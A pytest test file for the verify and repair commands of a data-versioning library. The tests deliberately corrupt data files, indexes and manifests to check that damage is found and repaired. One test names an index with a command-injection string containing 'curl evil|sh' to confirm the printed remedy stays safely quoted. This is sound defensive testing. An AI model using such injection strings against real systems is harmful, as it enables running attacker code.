"""Commands that find damage, and save what can be saved."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import struct
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from click.testing import Result
from tests.dataset.test_claimed_rows import rewrite

import glaive
from glaive.io.local import LocalStore
from glaive.process import listen, stop_listening

Call = Callable[..., Result]


def told(result: Result) -> list[Any]:
    """What a command with --json prints; verify ends with 1 where it finds damage."""
    return [json.loads(line) for line in result.stdout.splitlines()]


def damage(uri: str) -> None:
    """Cut the data file that only the newest version has."""
    newest = glaive.dataset(uri).get_fragments()[-1].metadata.files[0]
    file = Path(uri, "data", newest.path)
    file.write_bytes(file.read_bytes()[:-20])


def test_verify_finds_damage_and_unused_files(call: Call, things: str) -> None:
    assert call("verify", things, "--deep").stdout == "version 1: sound\nversion 2: sound\n"
    Path(things, "data", "unused.lance").write_bytes(b"123")
    found = told(call("verify", things, "--json"))
    assert found[-1] == {"state": "unused", "files": 1, "bytes": 3}
    assert "glaive cleanup" in call("verify", things).stdout
    damage(things)
    result = call("verify", things, "--newest", "--json")
    assert result.exit_code == 1
    facts = json.loads(result.stdout)
    assert (facts["state"], facts["version"]) == ("damaged", 2)
    assert "glaive repair" in call("verify", things).stdout


def test_repair_restores_the_newest_sound_version_if_asked(call: Call, things: str) -> None:
    assert "nothing to do" in call("repair", things).stdout
    damage(things)
    plan = call("repair", things).stdout
    assert "--apply makes a version that has the content of version 1: 3 rows" in plan
    assert glaive.dataset(things).version == 2
    (facts,) = told(call("repair", things, "--apply", "--json"))
    assert (facts["sound_version"], facts["restored_as"]) == (1, 3)
    assert glaive.dataset(things).to_table().num_rows == 3


def test_repair_undoes_no_version_that_is_committed_while_it_looks_for_damage(
    call: Call, things: str
) -> None:
    damage(things)
    rows = glaive.dataset(things, version=1).to_table()

    def others(_: str, event: dict[str, str]) -> None:
        if event.get("status") == "success":  # the newest version was opened
            stop_listening()
            glaive.write_dataset(rows, things, mode="overwrite")

    listen(others)
    result = call("repair", things, "--apply")
    assert result.exit_code == 1
    assert "version 3 was committed while version 2 was checked" in result.stderr
    assert glaive.dataset(things).version == 3
    assert "nothing to do" in call("repair", things, "--apply").stdout
    assert glaive.dataset(things).to_table() == rows


def test_repair_undoes_no_version_that_is_committed_just_before_its_own(
    call: Call, things: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    damage(things)
    rows = glaive.dataset(things, version=1).to_table()
    put, left = LocalStore.put, [rows]

    def put_later(self: LocalStore, path: str, *args: Any, **kwargs: Any) -> None:
        if path.endswith(".manifest") and left:
            glaive.write_dataset(left.pop(), things, mode="append")
        put(self, path, *args, **kwargs)

    monkeypatch.setattr(LocalStore, "put", put_later)
    result = call("repair", things, "--apply")
    assert result.exit_code == 1
    assert "version 3 was committed while version 2 was checked" in result.stderr
    assert glaive.dataset(things).version == 3


def test_repair_says_if_nothing_is_sound(call: Call, tmp_path: Path) -> None:
    uri = str(tmp_path / "a.lance")
    glaive.write_dataset(pa.table({"a": [1]}), uri)
    damage(uri)
    result = call("repair", uri)
    assert result.exit_code == 1
    assert "no version of" in result.stderr


def test_repair_keeps_what_is_sound_of_the_newest_version(call: Call, tmp_path: Path) -> None:
    uri = str(tmp_path / "a.lance")
    glaive.write_dataset(pa.table({"a": range(5)}), uri, max_rows_per_file=3)
    damage(uri)
    assert "--drop-fragments gives up 1 of 2 fragments" in call("repair", uri).stderr
    plan = call("repair", uri, "--drop-fragments").stdout
    assert "version 1 without fragments 1: 3 rows of 5" in plan
    assert glaive.dataset(uri).version == 1
    (facts,) = told(call("repair", uri, "--drop-fragments", "--apply", "--json"))
    assert (facts["dropped_fragments"], facts["rows"], facts["restored_as"]) == ([1], 3, 2)
    assert glaive.dataset(uri).to_table()["a"].to_pylist() == [0, 1, 2]
    assert call("verify", uri, "--newest").exit_code == 0


def test_repair_gives_up_a_fragment_that_cannot_be_looked_at(call: Call, tmp_path: Path) -> None:
    uri = str(tmp_path / "a.lance")
    glaive.write_dataset(pa.table({"a": range(5)}), uri, max_rows_per_file=3)
    (manifest,) = Path(uri, "_versions").glob("*.manifest")
    path = glaive.dataset(uri).get_fragments()[-1].metadata.files[0].path.encode()
    manifest.write_bytes(manifest.read_bytes().replace(path, b"../" + path[3:]))
    (facts,) = told(call("repair", uri, "--drop-fragments", "--apply", "--json"))
    assert (facts["dropped_fragments"], facts["rows"], facts["restored_as"]) == ([1], 3, 2)
    assert glaive.dataset(uri).to_table()["a"].to_pylist() == [0, 1, 2]


def damage_index(uri: str, *, values: bool) -> None:
    """Change bytes of the values of an index, or of the end of its file."""
    file = next(Path(uri).glob("_indices/*/page_data.lance"))
    content = bytearray(file.read_bytes())
    where = slice(0, 2000) if values else slice(-60, -40)
    content[where] = bytes(255 - byte for byte in content[where])
    file.write_bytes(content)


@pytest.mark.parametrize("values", [True, False])
def test_a_damaged_index_is_found_and_dropped_without_a_row(
    call: Call, tmp_path: Path, *, values: bool
) -> None:
    uri, deep = str(tmp_path / "a.lance"), ("--deep",) if values else ()
    dataset = glaive.write_dataset(pa.table({"a": range(5000)}), uri)
    dataset.create_scalar_index("a", "BTREE")
    assert call("verify", uri, "--deep").exit_code == 0
    damage_index(uri, values=values)
    found = told(call("verify", uri, *deep, "--json"))
    assert [one["state"] for one in found] == ["sound", "damaged"]
    assert (found[1]["version"], found[1]["index"]) == (2, "a_idx")
    assert f"glaive index {uri} --drop a_idx" in found[1]["remedy"]
    (facts,) = told(call("repair", uri, *deep, "--apply", "--json"))
    assert (facts["dropped_indices"], facts["rows"], facts["restored_as"]) == (["a_idx"], 5000, 3)
    assert call("verify", uri, *deep, "--newest").exit_code == 0


@pytest.mark.spec("rel-36")
def test_a_remedy_that_is_pasted_into_a_shell_runs_one_command_whatever_an_index_is_called(
    call: Call, tmp_path: Path
) -> None:
    uri, name = str(tmp_path / "a.lance"), "a; curl evil|sh\n`x` $(y) 'z'"
    dataset = glaive.write_dataset(pa.table({"a": range(5000)}), uri)
    dataset.create_scalar_index("a", "BTREE", name=name)
    damage_index(uri, values=False)
    remedy = told(call("verify", uri, "--json"))[-1]["remedy"]
    pasted = remedy.removeprefix("no rows are lost: `").removesuffix("`, then build it again")
    assert shlex.split(pasted) == ["glaive", "index", uri, "--drop", name]


@pytest.mark.skipif(sys.platform != "linux", reason="other systems have no such names")
def test_files_whose_names_are_no_text_are_listed(call: Call, things: str) -> None:
    Path(things, "data", os.fsdecode(b"\xff.lance")).write_bytes(b"123")
    found = told(call("verify", things, "--json"))
    assert found[-1] == {"state": "unused", "files": 1, "bytes": 3}
    listed = glaive.dataset(things).all_files().read_all()["path"].to_pylist()
    assert "data/\\udcff.lance" in listed


def test_verify_names_each_fragment_and_checks_branches(call: Call, tmp_path: Path) -> None:
    uri = str(tmp_path / "a.lance")
    dataset = glaive.write_dataset(pa.table({"a": range(6)}), uri, max_rows_per_file=2)
    branch = dataset.create_branch("side")
    glaive.write_dataset(pa.table({"a": [7]}), branch, mode="append")
    result = call("verify", uri, "--json")
    assert {(one["state"], one["version"]) for one in told(result)} == {
        ("sound", 1), ("sound", "side:1"), ("sound", "side:2")
    }  # fmt: skip
    for fragment in dataset.get_fragments()[:2]:
        Path(uri, "data", fragment.metadata.files[0].path).unlink()
    next(Path(uri).glob("tree/side/data/*")).write_bytes(b"no Lance file")
    damaged = [one for one in told(call("verify", uri, "--json")) if one["state"] == "damaged"]
    assert [(one["version"], one["fragment"]) for one in damaged] == [
        (1, 0), (1, 1), ("side:1", 0), ("side:1", 1), ("side:2", 0), ("side:2", 1), ("side:2", 3)
    ]  # fmt: skip


def test_unused_files_of_deletions_and_indices_are_found(call: Call, things: str) -> None:
    for name in ("_deletions/0-1-1.arrow", "_indices/no/page.lance", "data/no.lance"):
        Path(things, name).parent.mkdir(parents=True, exist_ok=True)
        Path(things, name).write_bytes(b"123")
    assert told(call("verify", things, "--json"))[-1] == {
        "state": "unused", "files": 3, "bytes": 9
    }  # fmt: skip


def test_a_newest_manifest_that_cannot_be_read_has_a_remedy(call: Call, things: str) -> None:
    newest = min(Path(things, "_versions").glob("*.manifest"))
    newest.write_bytes(newest.read_bytes()[:-20])
    for command in ("verify", "repair"):
        result = call(command, things)
        assert result.exit_code == 1
        assert "Move this manifest to another folder" in result.stderr
    newest.rename(newest.parent.parent / newest.name)
    assert "is sound: nothing to do" in call("repair", things).stdout


def test_a_damaged_page_table_is_found_without_decoding_rows(call: Call, tmp_path: Path) -> None:
    """The place of a column's metadata, which the end of the file lists."""
    place = tmp_path / "d"
    glaive.write_dataset(pa.table({"a": range(100), "b": range(100)}), place)
    (file,) = place.glob("data/*.lance")
    data = bytearray(file.read_bytes())
    (table,) = struct.unpack_from("<Q", data, len(data) - 32)
    data[table + 4] ^= 255
    file.write_bytes(data)
    result = call("verify", str(place))
    assert result.exit_code == 1
    assert "metadata of column 0" in result.stdout
    assert "glaive repair" in result.stdout


def test_fragments_that_versions_share_are_decoded_once_and_their_damage_is_in_each(
    call: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    uri = str(tmp_path / "a.lance")
    for text in ("one", "two", "six"):
        glaive.write_dataset(pa.table({"t": [text]}), uri, mode="append")
    dataset = glaive.dataset(uri)
    dataset.delete("t = 'six'")
    dataset.add_columns({"length": "length(t)"})
    decoded: list[int] = []

    def counted(fragment: glaive.LanceFragment) -> Any:
        decoded.append(fragment.fragment_id)
        return to_batches(fragment)

    to_batches = glaive.LanceFragment.to_batches
    monkeypatch.setattr(glaive.LanceFragment, "to_batches", counted)
    assert call("verify", uri, "--deep").stdout.count(": sound\n") == 5
    # Once as they were written, then the two that are left with their new column.
    assert decoded == [0, 1, 2, 0, 1]

    (file,) = [one for one in Path(uri, "data").iterdir() if b"two" in one.read_bytes()]
    file.write_bytes(file.read_bytes().replace(b"two", b"tw\xff"))
    found = told(call("verify", uri, "--deep", "--json"))
    damaged = [(one["version"], one["fragment"]) for one in found if one["state"] == "damaged"]
    assert damaged == [(2, 1), (3, 1), (4, 1), (5, 1)]


def test_fragments_with_the_same_files_elsewhere_are_decoded_by_themselves(
    call: Call, tmp_path: Path
) -> None:
    """The second version says that the base path of its only file is another one."""
    places = [tmp_path / "one", tmp_path / "two"]
    bases = [glaive.DatasetBasePath(str(places[0]), id=1, name="base")]
    rows = pa.table({"t": ["a text"]})
    uri = str(tmp_path / "a.lance")
    glaive.write_dataset(rows, uri, initial_bases=bases, target_bases=["base"])
    shutil.copytree(places[0], places[1])
    (file,) = places[1].rglob("*.lance")
    file.write_bytes(file.read_bytes().replace(b"a text", b"a tex\xff"))
    glaive.dataset(uri).update_config({"key": "value"})

    def move(wire: Any, _: list[Any]) -> None:
        wire.base_paths[0].path = wire.base_paths[0].path.replace(str(places[0]), str(places[1]))

    rewrite(Path(uri), move)
    found = [
        (one["version"], one["state"]) for one in told(call("verify", uri, "--deep", "--json"))
    ]
    assert found == [(1, "sound"), (2, "damaged")]
